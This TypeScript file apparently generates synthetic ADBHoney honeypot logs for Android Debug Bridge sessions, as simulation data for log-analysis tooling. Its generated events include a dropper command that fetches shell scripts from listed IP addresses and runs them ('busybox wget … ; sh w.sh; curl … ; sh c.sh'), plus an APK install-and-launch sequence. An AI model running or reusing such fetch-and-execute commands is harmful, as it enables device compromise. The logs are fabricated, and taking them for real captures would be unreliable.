/**
 * ADBHoney (Android Debug Bridge, 5555) as realdata/tpot-2022 shows it: Python json.dumps,
 * Cowrie-like event ids, `timestamp` = `utcnow().isoformat() + "Z"` (so `…:53Z` without a
 * fraction when the microseconds are 0), `unixtime` int seconds, `dest_port` the string "5555",
 * `duration` a string. Sessions: most connect and leave after about a second; droppers send one
 * long `busybox wget … ; sh …` line and are held ~45 s; a few push an APK (file_upload) and run it.
 */
import type { Source } from "./addresses.ts";
import { US_PER_SECOND, pyIsoformat } from "./clock.ts";
import type { AttackerField, FormatModule, GeneratorContext, JunkKind, LogRecord } from "./format.ts";
import { stream } from "./format.ts";
import { cutOff } from "./junk.ts";
import { PotGenerator } from "./pot.ts";
import { pyString } from "./pyjson.ts";

const SENSOR = "honeypot01";
const DEST_IP = "172.18.0.2";
const HOSTS = ["198.98.62.154", "163.123.142.144", "46.19.137.50", "45.95.168.230", "141.98.6.250"];

export const adbhoneyFormat: FormatModule = {
  name: "adbhoney",
  dir: "adbhoney/log",
  streams: [stream("adbhoney.json")],
  countsAsAttack: true,
  fields: { input: "command", src_url: "url", filename: "filename" },
  create: (ctx) => new AdbhoneyGenerator(ctx),
};

class AdbhoneyGenerator extends PotGenerator {
  constructor(ctx: GeneratorContext) {
    super(ctx, "adbhoney", { visitsPerWeek: 36, rhythm: { peakHour: 20 } });
  }

  finalLine(spanEndUs: number): LogRecord {
    const source = this.ctx.sources.scan.pick(this.rng);
    const t = spanEndUs - 700_000;
    const line = `{"eventid": "adbhoney.session.connect", "src_ip": "${source.ip}", "src_port": ${this.ports.take(source.ip)}, "dest_ip": "${DEST_IP}", "dest_port": "5555", "timestamp": "${pyIsoformat(t)}Z", "unixtime": ${Math.floor(t / US_PER_SECOND)}, "session": "${this.rng.hex(12)}", "sensor": "${SENSOR}"}`;
    return { writeUs: t, fact: null, junk: "cut-off" as JunkKind, line: cutOff(line, this.rng) };
  }

  protected visit(t0: number, source: Source): void {
    const rng = this.rng;
    const session = rng.hex(12);
    const tail = (t: number): string => `"timestamp": "${pyIsoformat(t)}Z", "unixtime": ${Math.floor(t / US_PER_SECOND)}, "session": "${session}", "sensor": "${SENSOR}"}`;
    const srcPort = this.ports.take(source.ip);
    this.out(t0, `{"eventid": "adbhoney.session.connect", "src_ip": "${source.ip}", "src_port": ${srcPort}, "dest_ip": "${DEST_IP}", "dest_port": "5555", ${tail(t0)}`, this.fact(t0, source, "adbhoney.session.connect", { port: 5555 }));
    const roll = this.sweeping ? 0.8 : rng.next();
    let t = t0;
    const command = (input: string): void => {
      t += rng.int(50_000, 3 * US_PER_SECOND);
      const value = this.pick("command", input, t);
      this.out(t, `{"eventid": "adbhoney.command.input", "input": ${pyString(value)}, "src_ip": "${source.ip}", ${tail(t)}`, this.fact(t, source, "adbhoney.command.input"), [["input", value]]);
    };
    if (roll < 0.65) {
      t += rng.chance(0.9) ? rng.int(1_050_000, 1_300_000) : rng.int(10 * US_PER_SECOND, 12 * US_PER_SECOND);
    } else if (roll < 0.93) {
      const host = rng.pick(HOSTS);
      command(`cd /data/local/tmp/; busybox wget http://${host}/w.sh; sh w.sh; curl http://${host}/c.sh; sh c.sh`);
      if (this.sweeping || rng.chance(0.5)) {
        t += rng.int(500_000, 5 * US_PER_SECOND);
        const url = this.pick("url", `http://${host}/w.sh`, t);
        const filename = this.pick("filename", "w.sh", t);
        const sha = rng.hex(64);
        const fields: AttackerField[] = [["src_url", url], ["filename", filename]];
        this.out(t, `{"eventid": "adbhoney.session.file_download", "src_ip": "${source.ip}", "src_url": ${pyString(url)}, "shasum": "${sha}", "outfile": "dl/${sha}.raw", "filename": ${pyString(filename)}, ${tail(t)}`, this.fact(t, source, "adbhoney.session.file_download"), fields);
      }
      t += rng.int(44 * US_PER_SECOND, 47 * US_PER_SECOND);
    } else {
      command("pm path com.google.home.tv");
      t += rng.int(1 * US_PER_SECOND, 3 * US_PER_SECOND);
      const sha = rng.hex(64);
      const filename = this.pick("filename", "/data/local/tmp/tv.apk", t);
      this.out(t, `{"eventid": "adbhoney.session.file_upload", "src_ip": "${source.ip}", "shasum": "${sha}", "outfile": "dl/${sha}.raw", "filename": ${pyString(filename)}, ${tail(t)}`, this.fact(t, source, "adbhoney.session.file_upload"), [["filename", filename]]);
      for (const c of ["pm install /data/local/tmp/tv.apk", "rm /data/local/tmp/tv.apk", "am start -n com.google.home.tv/com.example.test.MainActivity", "ps | grep log"]) command(c);
      t += rng.int(5 * US_PER_SECOND, 40 * US_PER_SECOND);
    }
    this.out(t, `{"eventid": "adbhoney.session.closed", "src_ip": "${source.ip}", "duration": "${((t - t0) / US_PER_SECOND).toFixed(2)}", ${tail(t)}`, this.fact(t, source, "adbhoney.session.closed"));
    this.observe({ tsUs: t0, endUs: t, src: source, srcPort, destPort: 5555, transport: "TCP", app: "other" });
  }
}
